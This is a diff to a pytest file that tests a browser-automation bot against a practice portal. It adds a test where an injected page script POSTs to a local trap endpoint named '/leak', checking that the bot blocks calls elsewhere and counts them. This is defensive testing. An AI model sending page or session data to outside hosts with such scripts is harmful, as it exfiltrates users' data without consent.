@@ -4,12 +4,14 @@ import re
 from collections.abc import AsyncIterator, Iterator
 from datetime import timedelta
 from pathlib import Path
+from typing import Any
 
 import pytest
 from httpx import AsyncClient
 from playwright.async_api import BrowserContext
 
 from bots.browser import BrowserHost
+from bots.elsewhere import Elsewhere
 from bots.lane import LEASE_SECONDS
 from flows.answers import ClaimState
 from flows.outcomes import Code, Ending, stop
@@ -20,6 +22,7 @@ from ledger.errors import CredentialFrozen, LaneBusy, NotPermitted, PortalStoppe
 from ledger.permissions import Basis, Grant, Status
 from sandbox.process import PracticePortal
 from tests.bots.night import ALIAS, PORTAL, Night, add_credential, night
+from tests.bots.trap_host import trap_host
 from vault.sealed import SealedFolder
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
@@ -152,8 +155,8 @@ class CoveredPages:
     def __init__(self, host: BrowserHost) -> None:
         self._host = host
 
-    async def new_context(self, *, accept_downloads: bool = False, proxy: str | None = None) -> BrowserContext:
-        context = await self._host.new_context(accept_downloads=accept_downloads, proxy=proxy)
+    async def new_context(self, **options: Any) -> BrowserContext:
+        context = await self._host.new_context(**options)
         cover = "const c = document.createElement('div'); c.style = 'position:fixed;inset:0'; document.body.append(c);"
         await context.add_init_script(f"addEventListener('DOMContentLoaded', () => {{ {cover} }})")
         return context
@@ -245,6 +248,24 @@ async def test_a_page_that_lies_to_scripts_does_not_change_what_is_read(office: 
     after = {record.number: record.answer.normalised for record in await answered(office)}
     assert report.by_ending.get(Ending.ANSWERED, 0) > 0
     assert after == before
+
+
+async def test_a_session_whose_pages_call_elsewhere_reaches_the_portal_alone_and_tells_how_often(
+    office: Night, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    plain = office.work.browser.new_context
+
+    async def with_calls(**options: Any) -> BrowserContext:
+        context = await plain(**options)
+        script = f"fetch('http://127.0.0.1:{trap.port}/leak', {{mode: 'no-cors', method: 'POST'}}).catch(() => 0)"
+        await context.add_init_script(script)
+        return context
+
+    monkeypatch.setattr(office.work.browser, "new_context", with_calls)
+    async with trap_host() as trap:
+        report = await office.run(limit=1)
+    assert (report.why, trap.came) == ("limit reached", [])
+    assert report.refused[Elsewhere.OTHER_PORT] > 1
 
 
 async def test_a_text_that_nobody_mapped_becomes_cases_and_never_an_answer(office: Night) -> None:
